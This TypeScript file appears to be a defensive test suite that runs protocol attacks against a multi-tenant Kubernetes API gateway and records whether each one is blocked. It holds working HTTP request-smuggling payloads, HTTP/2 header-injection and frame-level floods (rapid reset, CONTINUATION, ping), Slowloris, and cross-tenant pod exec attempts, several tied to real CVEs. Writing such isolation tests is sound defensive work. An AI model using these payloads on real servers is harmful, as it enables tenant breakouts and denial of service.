import { once } from 'node:events'
import { type AttackContext, blocked, escaped, type Outcome, untried } from '../attack.ts'
import { REQUEST_MS_MAX } from '../limits.ts'
import { type ApiAnswer, parseRaw, type TenantApi } from '../tenant-api.ts'
import { allRefused, counted, said, worked } from './expect.ts'
import { identityOf } from './headers.ts'
import {
  CONFIG_MAPS,
  configMap,
  family,
  nothingMade,
  ownWrite,
  secretOf,
  type Sketch,
} from './own-and-other.ts'

/** The request that is to be seen by a control plane and not by the gateway: it makes an object as an administrator. */
function hidden({ attacker, victim, mark }: AttackContext, at: 'own' | 'other', line = '\r\n'): string {
  const tenant = at === 'own' ? attacker.name : victim.name
  const body = JSON.stringify(configMap(mark))
  return [
    `POST ${at === 'own' ? '' : victim.root}${CONFIG_MAPS} HTTP/1.1`,
    'Host: localhost',
    `x-bulkhead-identity: ${identityOf(tenant)}`,
    'Content-Type: application/json',
    `Content-Length: ${Buffer.byteLength(body)}`,
    '',
    body,
  ].join(line)
}

type Smuggling = Omit<Sketch, 'attempt'> & {
  /** What surrounds the hidden request. `path` is one that the sender may ask. */
  carriers(path: string, hidden: string): readonly string[]
}

/**
 * Sent by a user without rights: if any reader in between takes the hidden part for a request of its own, an object
 * comes into being, or there are more answers than requests.
 */
function smuggled({ carriers, ...sketch }: Smuggling): Sketch {
  return {
    vector: 'tenant API',
    control: ownWrite,
    ...sketch,
    async attempt(context) {
      const { attacker } = context
      const user = attacker.as({ certificate: await attacker.issue({ user: 'lowly', groups: [] }) })
      const path = `${attacker.root}${REVIEW}`
      const codes: string[] = []
      for (const at of ['own', 'other'] as const)
        for (const bytes of carriers(path, hidden(context, at))) {
          const text = await user.raw(bytes)
          codes.push(
            [...text.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((match) => match[1]).join('+') || 'closed',
          )
          if (/HTTP\/1\.[01] (?:201|5\d\d)[^]*HTTP\/1\.[01] 2/.test(text))
            return escaped(`an answer to the hidden request: ${text.slice(0, 300)}`)
        }
      return (
        (await nothingMade(context)) ??
        blocked('request parsing', `answers ${counted(codes)}; the hidden request made nothing`)
      )
    },
  }
}

const REVIEW = '/apis/authentication.k8s.io/v1/selfsubjectreviews'
const REVIEW_BODY = '{"apiVersion":"authentication.k8s.io/v1","kind":"SelfSubjectReview","metadata":{}}'
const REVIEW_CHUNK = `${REVIEW_BODY.length.toString(16)}\r\n${REVIEW_BODY}\r\n`

const post = (path: string, headers: string) =>
  `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${headers}\r\n`

const size = (text: string) => Buffer.byteLength(text)

const RESETS = 1_500
const SLOW_CONNECTIONS = 60
const PINGS = 3_000

/** The victim asks while it is attacked: answered, or the attack has come across. */
async function victimServed(victim: AttackContext['victim'], during: string): Promise<Outcome | undefined> {
  const answer = await victim.own(secretOf(victim)).catch((error: unknown) => error)
  if (answer instanceof Error) return escaped(`${during}, the victim got no answer: ${answer.message}`)
  const { code } = answer as ApiAnswer
  return code === 200 ? undefined : escaped(`${during}, the victim was answered ${code}`)
}

async function victimWorks({ victim }: AttackContext): Promise<string> {
  return worked(await victim.own(secretOf(victim)), 'before it, the victim reads its own secret')
}

export const protocolAttacks = family('protocol', 'tenant API', [
  smuggled({
    id: 'smuggle-cl-te',
    title: 'hides a request behind a body whose length is stated twice: by Content-Length and as chunks',
    replays: 'the CL.TE desync between front and back servers',
    always: true,
    carriers: (path, inner) => [
      post(path, `Content-Length: ${size(`0\r\n\r\n${inner}`)}\r\nTransfer-Encoding: chunked\r\n`) +
        `0\r\n\r\n${inner}`,
      post(
        path,
        `Transfer-Encoding: chunked\r\nContent-Length: ${size(`${REVIEW_CHUNK}0\r\n\r\n${inner}`)}\r\n`,
      ) + `${REVIEW_CHUNK}0\r\n\r\n${inner}`,
    ],
  }),
  smuggled({
    id: 'smuggle-te-cl',
    title: 'hides a request in a chunk that a reader of Content-Length takes for the next request',
    replays: 'the TE.CL desync between front and back servers',
    carriers: (path, inner) => [
      post(path, `Content-Length: 4\r\nTransfer-Encoding: chunked\r\n`) +
        `${size(inner).toString(16)}\r\n${inner}\r\n0\r\n\r\n`,
      post(path, `Transfer-Encoding: chunked\r\nContent-Length: ${size(REVIEW_CHUNK)}\r\n`) +
        `${REVIEW_CHUNK}${size(inner).toString(16)}\r\n${inner}\r\n0\r\n\r\n`,
    ],
  }),
  smuggled({
    id: 'smuggle-te-te',
    title: 'states the chunked encoding in spellings that only one of two readers knows',
    replays:
      'CVE-2022-32213 and CVE-2022-32215: llhttp read odd and folded Transfer-Encoding headers as chunked',
    carriers: (path, inner) =>
      [
        'Transfer-Encoding: xchunked',
        'Transfer-Encoding : chunked',
        'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
        'Transfer-Encoding: identity, chunked',
        'Transfer-Encoding:\tchunked\v',
        'Transfer-Encoding:\r\n chunked',
        'X: x\nTransfer-Encoding: chunked',
        'Transfer-Encoding: chunked, identity',
        'transfer-encoding: "chunked"',
      ].map(
        (line) =>
          `${post(path, `${line}\r\nContent-Length: ${size(`0\r\n\r\n${inner}`)}\r\n`)}0\r\n\r\n${inner}`,
      ),
  }),
  smuggled({
    id: 'smuggle-cl-zero',
    title: 'hides a request in a body that a reader may think is none: no length, zero, GET with a body',
    replays: 'the CL.0 and GET-with-body desyncs',
    carriers: (path, inner) => [
      post(path, `Content-Length: 0\r\n`) + inner,
      post(path, '') + inner,
      `GET ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: ${size(inner)}\r\n\r\n${inner}`,
      `DELETE ${path}/x HTTP/1.1\r\nHost: x\r\nContent-Length: ${size(inner)}\r\n\r\n${inner}`,
      `GET ${path} HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: ${size(inner)}\r\n\r\n${inner}`,
    ],
  }),
  smuggled({
    id: 'smuggle-two-lengths',
    title: 'states two lengths, signed and blank ones, and lengths beyond all numbers',
    replays: 'CVE-2018-7159: a parser took blanks inside a Content-Length for part of it',
    carriers: (path, inner) => {
      const body = `${REVIEW_BODY}${inner}`
      const [short, long] = [size(REVIEW_BODY), size(body)]
      return [
        `Content-Length: ${short}\r\nContent-Length: ${long}`,
        `Content-Length: ${long}\r\nContent-Length: ${short}`,
        `Content-Length: ${short}, ${long}`,
        `Content-Length: +${short}`,
        `Content-Length: 0x${short.toString(16)}`,
        `Content-Length: ${String(short).split('').join(' ')}`,
        `Content-Length: 18446744073709551${String(short).padStart(3, '0')}`,
        `Content-Length: -1`,
      ].map((line) => post(path, `${line}\r\n`) + body)
    },
  }),
  smuggled({
    id: 'smuggle-bare-line-feeds',
    title: 'ends lines of heads and chunks with a bare line feed or a bare carriage return',
    replays: 'CVE-2023-30589: llhttp ended a header line at a bare carriage return',
    carriers: (path, inner) => [
      `POST ${path} HTTP/1.1\nHost: x\nContent-Length: 0\n\n${inner}`,
      `POST ${path} HTTP/1.1\r\nHost: x\r\nA: b\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
      post(path, 'Transfer-Encoding: chunked\r\n') + `0\n\n${inner}`,
      post(path, 'Transfer-Encoding: chunked\r\n') + `1\r\n{\n0\r\n\r\n${inner}`,
      post(path, 'Transfer-Encoding: chunked\r\n') + `0\r\r${inner}`,
    ],
  }),
  smuggled({
    id: 'smuggle-chunk-extensions',
    title: 'hides a request in extensions, sizes and trailers of chunks',
    replays:
      'CVE-2024-22019 and the desyncs by chunk extensions: readers disagreed about where a chunk line ends',
    carriers: (path, inner) => {
      const head = post(path, 'Transfer-Encoding: chunked\r\n')
      return [
        `${head}0;x=\n${inner}\r\n\r\n`,
        `${head}0;"\r\n\r\n${inner}`,
        `${head}${REVIEW_BODY.length.toString(16)};${'a'.repeat(20_000)}\r\n${REVIEW_BODY}\r\n0\r\n\r\n${inner}`,
        `${head}00000000000000000000\r\n\r\n${inner}`,
        `${head}ffffffffffffffff1\r\n${REVIEW_BODY}\r\n0\r\n\r\n${inner}`,
        `${head}-1\r\n${REVIEW_BODY}\r\n0\r\n\r\n${inner}`,
        `${head}0x0\r\n\r\n${inner}`,
        `${head}${REVIEW_CHUNK}0\r\nx-bulkhead-identity: ${'x'}\r\nTransfer-Encoding: chunked\r\nHost: x\r\n\r\n`,
      ]
    },
  }),
  {
    id: 'pipeline-across-tenants',
    title: 'sends a request to the victim behind requests of its own on the same connection',
    always: true,
    async attempt({ attacker, victim }) {
      const line = (path: string, last = false) =>
        `GET ${path} HTTP/1.1\r\nHost: x\r\n${last ? 'Connection: close\r\n' : ''}\r\n`
      const text = await attacker.admin.raw(
        line(attacker.root + secretOf(attacker)) +
          line(victim.root + secretOf(victim)) +
          line(`${attacker.root}/version`) +
          line(`${victim.root}/version`, true),
      )
      const codes = [...text.matchAll(/HTTP\/1\.1 (\d{3})/g)].map((match) => match[1] ?? '')
      if (codes[0] !== '200') return untried(`its own request was answered ${codes[0] ?? 'not at all'}`)
      return codes.some((code, i) => i % 2 === 1 && code !== '403')
        ? escaped(`answers ${codes.join(', ')}`)
        : blocked('gateway binds to one tenant', `each request by itself: ${codes.join(', ')}`)
    },
  },
  {
    id: 'http2-pseudo-headers',
    title: 'says one tenant in :path and another in :authority, host, :protocol and doubled fields',
    replays:
      'CVE-2021-33193: an HTTP/2 request was rewritten into a request line that said more than one thing',
    always: true,
    async attempt({ attacker, victim }) {
      const session = await attacker.admin.http2()
      const own = attacker.root + secretOf(attacker)
      const other = victim.root + secretOf(victim)
      const control = await attacker.admin.ask2(session, { ':path': own })
      if (control.code !== 200) return untried(`its own secret over HTTP/2: ${said(control)}`)
      const tries: Record<string, string | string[]>[] = [
        { ':path': other },
        { ':path': other, ':authority': `${attacker.name}.bulkhead` },
        { ':path': other, host: attacker.name },
        { ':path': `${own} HTTP/1.1\r\nHost: x\r\n\r\nGET ${other}` },
        { ':path': other, ':method': `GET ${own} HTTP/1.1` },
        { ':path': `https://x${other}` },
        { ':path': other, ':scheme': 'http' },
        { ':path': `${own}/../../../../../../${other}` },
        { ':path': '*', ':method': 'OPTIONS' },
      ]
      const answers: [string, ApiAnswer][] = []
      for (const headers of tries)
        answers.push([JSON.stringify(headers).slice(0, 100), await attacker.admin.ask2(session, headers)])
      session.destroy()
      return allRefused(answers)
    },
  },
  {
    id: 'http2-header-splitting',
    title:
      'puts line ends and a second request into HTTP/2 header values, which HTTP/1.1 would read as lines',
    replays:
      'the H2.TE and H2.CL desyncs: a front server wrote HTTP/2 values into HTTP/1.1 without looking at them',
    control: ownWrite,
    async attempt(context) {
      const { attacker } = context
      const user = attacker.as({ certificate: await attacker.issue({ user: 'lowly', groups: [] }) })
      const path = `${attacker.root}${REVIEW}`
      const codes: string[] = []
      const inner = hidden(context, 'own')
      for (const fields of [
        { accept: `*/*\r\n\r\n${inner}` },
        { accept: `*/*\r\nx-bulkhead-identity: ${identityOf(attacker.name)}` },
        { 'user-agent': `x\ny: z\n\n${inner}` },
        { 'content-length': '0' },
        { 'content-length': String(REVIEW_BODY.length + 1) },
        { 'transfer-encoding': 'chunked' },
        { connection: 'x-bulkhead-identity' },
        { [`x\r\nx-bulkhead-identity: ${identityOf(attacker.name)}\r\ny`]: 'z' },
      ] as Record<string, string>[])
        codes.push(
          await rawHttp2(
            user,
            {
              ':method': 'POST',
              ':path': path,
              ':scheme': 'https',
              ':authority': 'x',
              'content-type': 'application/json',
              ...fields,
            },
            `${REVIEW_BODY}${inner}`,
          ),
        )
      return (
        (await nothingMade(context)) ??
        blocked(
          'the HTTP/2 library refuses such fields, and the gateway writes its own',
          `answers ${counted(codes)}; nothing was made`,
        )
      )
    },
  },
  {
    id: 'http2-upgrade',
    title: 'asks a connection of HTTP/1.1 to become HTTP/2 in the clear, TLS, or a WebSocket on a plain path',
    replays: 'h2c smuggling: proxies passed the upgrade on, and everything after it was beyond their rules',
    async attempt({ attacker }) {
      const path = attacker.root + secretOf(attacker)
      const codes: string[] = []
      for (const upgrade of [
        'h2c',
        'h2',
        'TLS/1.3',
        'HTTP/2.0',
        'bulkhead-frames',
        'websocket, h2c',
        'SPDY/3.1',
      ]) {
        const text = await attacker.admin.raw(
          `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: ${upgrade}\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
        )
        const { code } = parseRaw(text)
        codes.push(String(code))
        if (code === 101) return escaped(`an upgrade to ${upgrade} on a plain path: 101`)
      }
      return blocked(
        'the gateway upgrades to WebSocket and SPDY only, on streams only',
        `answers ${counted(codes)}`,
      )
    },
  },
  {
    id: 'http2-rapid-reset',
    title: `resets ${RESETS} streams as soon as they are open, while the victim works`,
    vector: 'control-plane saturation',
    replays: 'CVE-2023-44487: streams that were reset at once cost servers work and no place',
    standards: ['T1499', 'MS-TA9040'],
    control: victimWorks,
    async attempt({ attacker, victim }) {
      const session = await attacker.admin.http2()
      let sent = 0
      for (; sent < RESETS && !session.destroyed; sent++) {
        const stream = session.request({ ':path': `${attacker.root}/api/v1/namespaces` })
        stream.on('error', () => {})
        stream.close(8)
        if (sent % 100 === 99) {
          await new Promise((resolve) => setImmediate(resolve))
          const out = await victimServed(victim, `after ${sent + 1} resets`)
          if (out) return out
        }
      }
      const ended = session.destroyed
      session.destroy()
      return (
        (await victimServed(victim, 'afterwards')) ??
        blocked(
          'limits per connection and per tenant',
          `${sent} streams reset${ended ? '; then the gateway ended the session' : ''}; the victim was served throughout`,
        )
      )
    },
  },
  {
    id: 'http2-floods',
    title: `sends ${PINGS} pings and settings without reading the answers, while the victim works`,
    vector: 'control-plane saturation',
    replays: 'CVE-2019-9512 and CVE-2019-9515: answers to pings and settings were queued without end',
    standards: ['T1499'],
    control: victimWorks,
    async attempt({ attacker, victim }) {
      const socket = await attacker.admin.socket(['h2'])
      socket.pause()
      socket.write(`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`)
      socket.write(frame(SETTINGS, 0, 0))
      for (let i = 0; i < PINGS && !socket.destroyed; i++) {
        socket.write(frame(PING, 0, 0, Buffer.alloc(8)))
        socket.write(frame(SETTINGS, 0, 0))
        if (i % 500 === 499) {
          const out = await victimServed(victim, `after ${i + 1} pings`)
          if (out) return out
        }
      }
      const ended = socket.destroyed
      socket.destroy()
      return (
        (await victimServed(victim, 'afterwards')) ??
        blocked(
          'limits per connection',
          `the victim was served throughout${ended ? '; the gateway ended the connection' : ''}`,
        )
      )
    },
  },
  {
    id: 'http2-continuation-flood',
    title: 'sends a head in CONTINUATION frames that never ends, while the victim works',
    vector: 'control-plane saturation',
    replays: 'CVE-2024-27983: a server went down over a CONTINUATION flood on HTTP/2',
    standards: ['T1499'],
    control: victimWorks,
    async attempt({ attacker, victim }) {
      const socket = await attacker.admin.socket(['h2'])
      socket.on('data', () => {})
      socket.write(`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`)
      socket.write(frame(SETTINGS, 0, 0))
      socket.write(frame(HEADERS, 0, 1, literal(':method', 'GET')))
      let sent = 0
      for (; sent < 2_000 && !socket.destroyed; sent++) {
        socket.write(frame(CONTINUATION, 0, 1, literal(`x-${sent}`, 'a'.repeat(1_000))))
        if (sent % 200 === 199) {
          await new Promise((resolve) => setImmediate(resolve))
          const out = await victimServed(victim, `after ${sent + 1} frames`)
          if (out) return out
        }
      }
      const ended = socket.destroyed || socket.writableEnded
      socket.destroy()
      return (
        (await victimServed(victim, 'afterwards')) ??
        blocked(
          'limits on heads',
          `${sent} frames${ended ? ', then the gateway ended the connection' : ''}; the victim was served throughout`,
        )
      )
    },
  },
  {
    id: 'slow-heads',
    title: `holds ${SLOW_CONNECTIONS} connections with heads that never end, while the victim works`,
    vector: 'control-plane saturation',
    replays: 'Slowloris: connections that send a byte now and then',
    standards: ['T1499'],
    control: victimWorks,
    async attempt({ attacker, victim }) {
      const sockets = await Promise.all(
        Array.from({ length: SLOW_CONNECTIONS }, () => attacker.admin.socket()),
      )
      for (const socket of sockets) socket.write(`GET ${attacker.root}/api HTTP/1.1\r\nHost: x\r\nX-Slow: `)
      for (let i = 0; i < 5; i++) {
        for (const socket of sockets) if (!socket.destroyed) socket.write('a')
        const out = await victimServed(victim, `while ${SLOW_CONNECTIONS} heads are open`)
        if (out) return out
      }
      for (const socket of sockets) socket.destroy()
      return blocked(
        'limits on connections and on the time for a head',
        `the victim was served while ${SLOW_CONNECTIONS} heads were open`,
      )
    },
  },
  {
    id: 'websocket-victims-pod',
    title: "opens exec, attach, port-forward and log streams on the victim's pod, over WebSocket and SPDY",
    standards: ['T1609'],
    replays:
      'CVE-2018-1002105: after a failed upgrade, an API server left the connection to the server behind open',
    always: true,
    async attempt({ attacker, victim }) {
      const base = `${victim.root}/api/v1/namespaces/${victim.canaries.namespace}/pods/${victim.canaries.pod}`
      const answers: [string, ApiAnswer][] = []
      for (const path of [
        'exec?command=id&stdout=true',
        'attach?stdout=true',
        'portforward?ports=8080',
        'log?follow=true',
      ])
        for (const protocol of ['v5.channel.k8s.io', 'v4.channel.k8s.io', 'portforward.k8s.io'])
          answers.push([`websocket ${path}`, await attacker.admin.upgrade(`${base}/${path}`, [protocol])])
      for (const method of ['POST', 'GET']) {
        const text = await attacker.admin.raw(
          `${method} ${base}/exec?command=id&stdout=true HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: v4.channel.k8s.io\r\n\r\nGET ${victim.root}${secretOf(victim)} HTTP/1.1\r\nHost: x\r\n\r\n`,
        )
        answers.push([`${method} SPDY`, parseRaw(text)])
        if (text.includes(victim.canaries.value))
          return escaped('the refused upgrade leaves the connection open to the victim')
      }
      const through = answers.find(([, { code }]) => code === 101)
      return through ? escaped(`${through[0]}: ${said(through[1])}`) : allRefused(answers)
    },
  },
  {
    id: 'websocket-token-protocol',
    title: "brings the victim's name in a token that hides in the WebSocket's protocols and cookies",
    vector: 'identities and tokens',
    async attempt({ attacker, victim }) {
      const token = await attacker.token()
      const hiddenToken = `base64url.bearer.authorization.k8s.io.${Buffer.from(token).toString('base64url')}`
      const nobody = attacker.as('nobody')
      const path = '/api/v1/namespaces?watch=true'
      const answers: [string, ApiAnswer][] = []
      for (const root of [victim.root, attacker.root]) {
        answers.push([
          `${root} protocol`,
          await nobody.upgrade(root + path, ['v4.channel.k8s.io', hiddenToken]),
        ])
        answers.push([
          `${root} cookie`,
          await nobody.request(root + path, { headers: { cookie: `token=${token}; bearer=${token}` } }),
        ])
        answers.push([
          `${root} query`,
          await nobody.request(`${root}/api/v1/namespaces?access_token=${token}&token=${token}`),
        ])
      }
      return allRefused(answers)
    },
  },
])

// HTTP/2 frames by hand: Node's client refuses to send what we would like to.
// https://www.rfc-editor.org/rfc/rfc9113#section-4.1
const [DATA, HEADERS, SETTINGS, PING, CONTINUATION] = [0, 1, 4, 6, 9]
const [END_STREAM, END_HEADERS] = [1, 4]

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** A header field as a literal without indexing and without Huffman coding: RFC 7541, section 6.2.2. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.of(0), lengthed(name), lengthed(value)])
}

function lengthed(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1')
  if (bytes.length < 127) return Buffer.concat([Buffer.of(bytes.length), bytes])
  const prefix = [127]
  let rest = bytes.length - 127
  for (; rest >= 128; rest >>= 7) prefix.push((rest & 127) | 128)
  return Buffer.concat([Buffer.of(...prefix, rest), bytes])
}

/** One request in frames of our own; what became of it in a word: a frame's type, or "closed". */
async function rawHttp2(api: TenantApi, headers: Record<string, string>, body: string): Promise<string> {
  const socket = await api.socket(['h2'])
  const block = Buffer.concat(Object.entries(headers).map(([name, value]) => literal(name, value)))
  const chunks: Buffer[] = []
  socket.on('data', (chunk: Buffer) => chunks.push(chunk))
  socket.write(`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`)
  socket.write(frame(SETTINGS, 0, 0))
  socket.write(frame(HEADERS, END_HEADERS, 1, block))
  socket.write(frame(DATA, END_STREAM, 1, Buffer.from(body)))
  await Promise.race([
    once(socket, 'close'),
    new Promise((resolve) => setTimeout(resolve, Math.min(1_000, REQUEST_MS_MAX))),
  ])
  socket.destroy()
  const got = Buffer.concat(chunks)
  const types: string[] = []
  for (let at = 0; at + 9 <= got.length; at += 9 + got.readUIntBE(at, 3))
    types.push(['DATA', 'HEADERS', '', 'RST_STREAM', '', '', '', 'GOAWAY'][got.readUInt8(at + 3)] ?? '')
  return types.filter(Boolean).join('+') || 'closed'
}
